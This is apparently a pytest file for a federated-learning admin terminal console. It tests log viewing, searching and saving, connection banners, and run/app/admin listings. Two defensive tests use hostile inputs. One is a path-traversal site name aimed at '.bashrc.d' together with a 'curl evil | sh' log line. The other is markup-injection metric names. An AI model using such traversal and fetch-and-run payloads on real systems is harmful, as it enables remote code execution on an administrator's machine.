"""The site log view, and what the smaller screens owe an operator.

A site's own lines with wrap, search, save and follow (``l``); the client
screen kept current; every screen saying how to close it; the validation
matrix explaining its empty diagonal; the palette listing Quit once; a
screenshot that needs no ``~/Downloads`` (issue 10, defect 11).
"""

from __future__ import annotations

import asyncio
import stat
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any, cast

import pytest
from textual.widgets import DataTable, Input

from fladmin.client import CommandReply
from flcore.feed import FeedEvent, LogEntry, Snapshot
from fldev.poll import wait_for
from fltui.connection import CONNECTED, DISCONNECTED, Connection
from fltui.screens.client import ClientScreen
from fltui.screens.help import HelpScreen
from fltui.screens.listings import AdminsScreen, AppsScreen, RunScreen, RunsScreen
from fltui.screens.sitelogs import SiteLogScreen
from fltui.screens.validation import ValidationScreen
from fltui.widgets.clients import ClientsTable
from fltui.widgets.logview import PREFIX_WIDTH, LogView
from tests.tui.helpers import burst, console_errors, screen_lines, shown
from tests.tui.recorded import CLIENTS, LOGS, NOW, RUN, RUN_ONE, RUNS, SERVER
from tests.tui.test_console import answers, console, ready

LONG = "epoch 3: " + " ".join(f"loss={i / 10:.2f}" for i in range(40))


def answering(listings: dict[str, dict[str, Any]]) -> Callable[[str, bool], CommandReply]:
    """The recorded server's answers, with the data of these command lines instead."""

    def reply(line: str, confirmed: bool) -> CommandReply:
        if line in listings:
            return CommandReply(line, True, line, listings[line], 10, "")
        return answers(line, confirmed)

    return reply


def test_l_shows_one_sites_lines_with_wrap_search_follow_and_save(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            await pilot.press("l")  # the cursor is on flclient1
            screen = await shown(pilot, app, SiteLogScreen)
            view = screen.query_one(LogView)
            assert {e.source for e in view.entries} == {"flclient1"}
            assert view.line_count == 2
            assert "Logs of flclient1" in str(view.border_title)
            link.push(
                LogEntry(NOW, "INFO", "flclientd.agent", LONG, "flclient1"),
                LogEntry(NOW, "INFO", "flclientd.agent", "not mine", "flclient2"),
            )
            await wait_for(pilot, lambda: view.line_count == 3)
            assert view.follow and view.is_vertical_scroll_end
            await pilot.press("w")
            assert view.wrap and view.virtual_size.height > 3  # the long line takes several rows
            assert any("loss=3.90" in line for line in screen_lines(app))
            await pilot.press("slash")
            burst(app, "EPOCH", "enter")  # searching ignores case
            await wait_for(pilot, lambda: view.search == "EPOCH")
            assert view.current_match is not None and view.current_match.message == LONG
            status = str(screen.query_one("#site-log-status").render())
            assert status.startswith("2 line(s) match 'EPOCH'")
            await pilot.press("n")
            assert (
                view.current_match is not None and "round 3: training" in view.current_match.message
            )
            await pilot.press("N")
            assert view.current_match is not None and view.current_match.message == LONG
            await pilot.press("slash")
            assert screen.query_one("#site-search", Input).value == "EPOCH"  # remembered
            await pilot.press("escape")
            await pilot.press("f")
            assert view.follow and view.is_vertical_scroll_end
            await pilot.press("ctrl+s")
            saved = tmp_path / "logs" / "flclient1-20250615-150640.log"
            await wait_for(pilot, lambda: saved.exists())
            lines = saved.read_text().splitlines()
            assert len(lines) == 3 and lines[-1].endswith(LONG)
            assert lines[0].startswith("2025-06-15 15:06:15 flclient1")
            assert f"saved 3 line(s) to {saved}" in str(
                screen.query_one("#site-log-status").render()
            )
            await pilot.press("q")
            await wait_for(pilot, lambda: app.screen is app.dashboard)

    asyncio.run(scenario())


def test_saving_a_sites_log_stays_in_the_logs_folder_whatever_the_site_is_called(
    tmp_path: Path,
) -> None:
    """The file was named after the instance as the server gave it: ``../`` in it wrote
    lines of the server's choosing where the admin's shell would run them."""
    evil = "../../outside/.bashrc.d/pwn"
    row = replace(CLIENTS[0], instance=evil, client_name=evil)
    line = LogEntry(NOW - 5, "INFO", "x", "curl evil | sh #", evil)
    events = [FeedEvent(100, NOW - 130, Snapshot(SERVER, RUN, (*CLIENTS, row), (*LOGS, line)))]

    async def scenario() -> None:
        app, _ = console(tmp_path, events)
        async with app.run_test(size=(120, 36)) as pilot:
            table = app.dashboard.query_one(ClientsTable)
            await wait_for(pilot, lambda: app.connected and table.row_count == len(CLIENTS) + 1)
            table.move_cursor(row=table.get_row_index(evil))
            await pilot.press("l")
            screen = await shown(pilot, app, SiteLogScreen)
            await pilot.press("ctrl+s")
            await wait_for(
                pilot,
                lambda: "saved 1 line(s)" in str(screen.query_one("#site-log-status").render()),
            )
            (saved,) = (tmp_path / "logs").iterdir()
            assert saved.name.startswith("_.._outside_.bashrc.d_pwn-")  # no folder in it
            assert stat.S_IMODE(saved.stat().st_mode) == 0o600
            assert not (tmp_path.parent / "outside").exists()

    asyncio.run(scenario())


def test_the_client_screen_follows_the_client_and_says_how_to_close(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            await pilot.press("enter")
            screen = await shown(pilot, app, ClientScreen)
            facts = screen.query_one("#client-facts")
            assert "training started" in str(facts.render())
            row = app.store.clients["flclient1"]
            link.push(replace(row, status="training failed", error="ValueError: bad batch"))
            await wait_for(pilot, lambda: "ValueError: bad batch" in str(facts.render()))
            assert "training failed" in str(facts.render())
            assert any("esc, enter or q close" in line for line in screen_lines(app))

    asyncio.run(scenario())


def test_views_over_the_dashboard_say_when_the_link_is_down(tmp_path: Path) -> None:
    """A client's details and a site's log ("following") went on looking current during an
    outage: only the dashboard beneath them had the banner, and a toast said it once."""

    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            await pilot.press("enter")
            await shown(pilot, app, ClientScreen)
            banner = app.screen.query_one("#banner")
            assert not banner.display
            app.publish(Connection(DISCONNECTED, NOW, "server unreachable", NOW + 4, 1))
            await wait_for(pilot, lambda: "connection lost since" in str(banner.render()))
            assert banner.display and "r now" not in str(banner.render())
            await pilot.press("escape", "l")
            await shown(pilot, app, SiteLogScreen)
            logs_banner = app.screen.query_one("#banner")
            await wait_for(pilot, lambda: "connection lost since" in str(logs_banner.render()))
            app.publish(Connection(CONNECTED, NOW))
            await wait_for(pilot, lambda: not logs_banner.display)

    asyncio.run(scenario())


def test_help_says_how_to_close_it(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            await pilot.press("question_mark")
            screen = await shown(pilot, app, HelpScreen)
            assert str(screen.query_one("#help-close").render()) == "esc, q or ? close this help"

    asyncio.run(scenario())


def test_the_validation_matrix_explains_its_empty_diagonal(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            await pilot.press("v")
            screen = await shown(pilot, app, ValidationScreen)
            text = str(screen.query_one("#validation-diagonal").render())
            assert "own model is never validated on its own data" in text
            assert any("esc or q close" in line for line in screen_lines(app))

    asyncio.run(scenario())


def test_the_palette_lists_quit_once(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            titles = [c.title for c in app.get_system_commands(app.dashboard)]
            assert titles.count("Quit") == 1, titles
            assert not any(title.lower() == "quit" for title in titles if title != "Quit")

    asyncio.run(scenario())


def test_a_screenshot_goes_under_the_admins_folder_and_says_where(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"  # no Downloads here
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_DOWNLOAD_DIR", str(home / "Downloads"))

    async def scenario() -> None:
        app, _ = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            app.deliver_screenshot()
            folder = tmp_path / "screenshots"
            await wait_for(pilot, lambda: folder.is_dir() and list(folder.glob("*.svg")))
            (shot,) = folder.glob("*.svg")
            await wait_for(pilot, lambda: [n for n in app._notifications if str(shot) in n.message])
            assert not (home / "Downloads").exists()
            # The admin's eyes only (the wizard's Kits step shows every kit's password).
            assert stat.S_IMODE(shot.stat().st_mode) == 0o600
            assert stat.S_IMODE(folder.stat().st_mode) == 0o700

    asyncio.run(scenario())


def test_a_stopped_run_says_why(tmp_path: Path) -> None:
    """What the feed already says about a run's end is on screen (issue 10, "why did it stop")."""

    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            header = app.dashboard.query_one("#header-title")
            updates = app.dashboard.query_one("#round-updates")
            stopped = replace(app.store.run, server_status="training stopped", awaited=())
            link.push(replace(stopped, reason="aborted by admin"))
            await wait_for(pilot, lambda: "(aborted by admin" in str(header.render()))
            # Who stopped it, and the sites that failed on the way with their error.
            assert "■ training stopped (aborted by admin · failed sites: flclient3 (Runtime" in str(
                header.render()
            )
            # At most three lines of it in the pane's 28 columns (the heartbeats keep their room):
            # the whole error is in the site's row and the logs.
            assert str(updates.render()).replace("\n", "") == (
                "Stopped: aborted by admin"
                "Failed: flclient3 (RuntimeError: CUDA out of memory. Tried to allocate…"
            )
            link.push(replace(stopped, reason="finished", failed_sites=()))
            await wait_for(pilot, lambda: str(updates.render()) == "Finished all rounds")
            crashed = replace(stopped, reason="server error: disk full", failed_sites=())
            link.push(crashed)
            await wait_for(
                pilot, lambda: "(failed: server error: disk full)" in str(header.render())
            )
            assert str(updates.render()) == "Stopped: failed: server error: disk full"

    asyncio.run(scenario())


def test_a_run_that_cannot_progress_says_so(tmp_path: Path) -> None:
    why = "min_num_clients 2 but only 1 site(s) can train: flclient3 failed (no DATA_ROOT set)"

    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=(160, 40)) as pilot:
            await ready(pilot)
            header = app.dashboard.query_one("#header-title")
            updates = app.dashboard.query_one("#round-updates")
            link.push(replace(app.store.run, blocked=why))
            await wait_for(pilot, lambda: "⚠ cannot progress" in str(header.render()))
            assert str(updates.render()).endswith(f"\nCannot progress: {why}")

    asyncio.run(scenario())


# --------------------------------------------------------------------------- the server's listings


def cells(table: DataTable[object], row: int) -> list[str]:
    return [str(cell) for cell in table.get_row_at(row)]


def test_runs_view_lists_every_run_and_opens_one_round_by_round(tmp_path: Path) -> None:
    """Issue 10: ``:runs`` (number, app, rounds, status, best, started/ended), enter opens a
    run's per-round metrics per site; the member role may look."""

    async def scenario() -> None:
        app, link = console(tmp_path, role="member", user="viewer@lead.org")
        async with app.run_test(size=(160, 40)) as pilot:
            await ready(pilot)
            burst(app, ":runs", "enter")
            runs = await shown(pilot, app, RunsScreen)
            table = runs.query_one(DataTable)
            await wait_for(pilot, lambda: table.row_count == 3)
            assert link.sent == [("list_runs", False)]
            assert [str(c.label) for c in table.columns.values()] == [
                "run",
                "app",
                "rounds",
                "status",
                "best",
                "started",
                "ended",
                "how it ended",
            ]
            aborted = cells(table, 1)
            assert aborted[:4] == ["2", "digits_custom", "4/10", "■ stopped"]
            assert aborted[7] == (
                "aborted by admin@lead.org · failed sites: flclient3 (no DATA_ROOT set)"
            )
            assert cells(table, 2)[4] == "val_accuracy=0.9744 (final model)"
            assert cells(table, 0)[3] == "▶ started" and cells(table, 0)[6] == "-"
            table.move_cursor(row=1)  # the whole story of a run is in the status line too
            status = runs.query_one("#listing-status")
            await wait_for(
                pilot, lambda: "run 2: training stopped (aborted by" in str(status.render())
            )
            assert "Runs (3 · page 1 of 1)" in str(table.border_title)
            table.move_cursor(row=2)
            await pilot.press("enter")
            run = await shown(pilot, app, RunScreen)
            rounds = run.query_one(DataTable)
            await wait_for(pilot, lambda: rounds.row_count == 9)
            assert link.sent[-1] == ("show_run 1", False)
            assert cells(rounds, 0)[:3] == ["0", "all (weighted)", "3647"]
            assert cells(rounds, 1)[:3] == ["", "  flclient1", "1437"]
            assert cells(rounds, 2)[1:] == ["  flclient2", "2210", "2.2000", "0.1100"]
            assert "rounds: page 1 of 4" in str(rounds.border_title)
            await pilot.press("right_square_bracket")
            await wait_for(pilot, lambda: link.sent[-1] == ("show_run 1 2", False))
            await pilot.press("escape")
            await wait_for(pilot, lambda: app.screen is runs)
            await pilot.press("escape")
            await wait_for(pilot, lambda: app.screen is app.dashboard)

    asyncio.run(scenario())


def test_metric_names_and_typed_filters_are_text_never_markup(tmp_path: Path) -> None:
    """Sites name their metrics: ``[/]`` or a name like ``round`` (a column of the view's
    own) kept the run view on "asking the server" for good, and ``[link=...]`` drew a link;
    a filter typed with ``[/`` took the console down."""
    odd = ["[/]", "round", "[link=https://x.example]val_accuracy[/link]"]
    run = {
        **RUN_ONE,
        "rounds": [
            {**line, "metrics": dict.fromkeys(odd, 0.5), "sites": {}} for line in RUN_ONE["rounds"]
        ],
    }

    async def scenario() -> None:
        app, _ = console(tmp_path, reply=answering({"show_run 1": run}))
        async with app.run_test(size=(160, 40)) as pilot:
            await ready(pilot)
            burst(app, "/", "[/", "enter")
            pane = app.dashboard.query_one("#clients-pane")
            await wait_for(pilot, lambda: "filter: [/" in str(pane.border_title))
            burst(app, ":runs", "enter")
            runs = await shown(pilot, app, RunsScreen)
            await wait_for(pilot, lambda: runs.query_one(DataTable).row_count == 3)
            runs.query_one(DataTable).move_cursor(row=2)
            await pilot.press("enter")
            screen = await shown(pilot, app, RunScreen)
            rounds = screen.query_one(DataTable)
            await wait_for(pilot, lambda: rounds.row_count == 3)
            labels = [c.label.plain for c in rounds.columns.values()]
            assert set(odd) <= set(labels)
            assert not any(c.label.spans for c in rounds.columns.values())  # no link, no style
            assert app.is_running

    asyncio.run(scenario())


def test_apps_and_admins_views_show_what_the_server_says(tmp_path: Path) -> None:
    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=(160, 40)) as pilot:
            await ready(pilot)
            burst(app, ":apps", "enter")
            apps = await shown(pilot, app, AppsScreen)
            table = apps.query_one(DataTable)
            await wait_for(pilot, lambda: table.row_count == 2)
            assert cells(table, 0) == [
                "digits_custom",
                "9.0 KiB",
                "5",
                "06-15 13:05",
                "3f1c" * 16,
            ]
            assert app.server_apps == ["digits_custom", "digits_fedavg"]  # deploy completes them
            await pilot.press("q")
            burst(app, ":admins", "enter")
            admins = await shown(pilot, app, AdminsScreen)
            table = admins.query_one(DataTable)
            await wait_for(pilot, lambda: table.row_count == 2)
            assert cells(table, 0)[:4] == ["admin@lead.org", "super", "1", "2"]
            assert cells(table, 0)[5] == "start client (ok, 06-15 14:56)"
            await pilot.press("r")
            await wait_for(pilot, lambda: link.sent.count(("list_admins", False)) == 2)

    asyncio.run(scenario())


def test_a_refused_listing_says_why_in_the_view(tmp_path: Path) -> None:
    def refusing(line: str, confirmed: bool) -> CommandReply:
        return CommandReply(line, False, "unknown command 'list_runs': [b]old server", {}, 1, "")

    async def scenario() -> None:
        app, _ = console(tmp_path, reply=refusing)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            burst(app, ":runs", "enter")
            runs = await shown(pilot, app, RunsScreen)
            status = runs.query_one("#listing-status")
            await wait_for(pilot, lambda: "old server" in str(status.render()))
            assert str(status.render()) == "unknown command 'list_runs': [b]old server"

    asyncio.run(scenario())


def test_a_paused_run_says_why(tmp_path: Path) -> None:
    """A server that cannot write to its disk pauses training: the console says so (issue 15)."""

    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            header = app.dashboard.query_one("#header-title")
            updates = app.dashboard.query_one("#round-updates")
            fault = "server disk full: /srv/fl: No space left on device"
            link.push(replace(app.store.run, server_status="training paused", fault=fault))
            await wait_for(pilot, lambda: fault in str(header.render()))
            assert f"⏸ training paused ({fault})" in str(header.render())
            assert str(updates.render()).startswith(f"Paused: {fault}\n")
            link.push(replace(app.store.run, server_status="training started", fault=""))
            await wait_for(pilot, lambda: "Paused" not in str(updates.render()))

    asyncio.run(scenario())


def test_a_listing_whose_numbers_are_no_numbers_still_shows(tmp_path: Path) -> None:
    """A count the server sent as 1e999 (JSON reads it as infinity) reads as none; it stopped
    the listing's worker, and the view said "asking the server" for good."""
    lines = cast(list[dict[str, object]], RUNS["runs"])
    first, *others = lines
    odd = {**first, "run_number": float("inf"), "started_at": float("nan")}
    runs = {**RUNS, "runs": [odd, *others], "page": float("-inf"), "pages": float("inf")}

    async def scenario() -> None:
        app, _ = console(tmp_path, reply=answering({"list_runs": runs}))
        async with app.run_test(size=(160, 40)) as pilot:
            await ready(pilot)
            burst(app, ":runs", "enter")
            screen = await shown(pilot, app, RunsScreen)
            table = screen.query_one(DataTable)
            await wait_for(pilot, lambda: table.row_count == 3)
            assert cells(table, 0)[:3] == ["0", "digits_fedavg", "3/10"]
            assert cells(table, 1)[:3] == ["2", "digits_custom", "4/10"]
            assert "page 1 of 1" in str(table.border_title)

    asyncio.run(scenario())


def test_a_view_that_fails_in_the_consoles_code_says_so(tmp_path: Path) -> None:
    """A view's worker that fails would leave it waiting without a word: the console says what
    failed and where, never the error's class."""

    def reply(line: str, confirmed: bool) -> CommandReply:
        if line == "list_apps":
            raise LookupError("no reader for this page")
        return answers(line, confirmed)

    async def scenario() -> None:
        app, _ = console(tmp_path, reply=reply)
        async with app.run_test(size=(120, 36)) as pilot:
            await ready(pilot)
            burst(app, ":apps", "enter")
            await shown(pilot, app, AppsScreen)
            expected = "the listing stopped on an error in the console: no reader for this page"
            await wait_for(
                pilot, lambda: any(n.message.startswith(expected) for n in app._notifications)
            )
            said = console_errors(app)
            assert len(said) == 1 and said[0].startswith(expected + " (at test_views.py line ")
            assert "LookupError" not in said[0]

    asyncio.run(scenario())


@pytest.mark.parametrize("size", [(120, 36), (83, 30)])
def test_a_wide_line_wraps_whole_and_scrolls_to_its_end(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    """A line of wide characters (two cells each) was cut by characters: wrapped, about half
    of it fell past the pane's edge; unwrapped, the scroll stopped half way."""
    wide = "日本語" * 60 + " END"  # 184 characters, 364 cells

    async def scenario() -> None:
        app, link = console(tmp_path)
        async with app.run_test(size=size) as pilot:
            await ready(pilot)
            await pilot.press("l")
            screen = await shown(pilot, app, SiteLogScreen)
            view = screen.query_one(LogView)
            link.push(LogEntry(NOW, "INFO", "flclientd.agent", wide, "flclient1"))
            await wait_for(pilot, lambda: view.line_count == 3)
            assert view.virtual_size.width == PREFIX_WIDTH + 364
            await pilot.press("w")
            await wait_for(pilot, lambda: view.wrap)
            shown_text = "".join(screen_lines(app))
            assert shown_text.count("日") == 60 and shown_text.count("語") == 60
            assert " END" in shown_text.replace("│", "")

    asyncio.run(scenario())
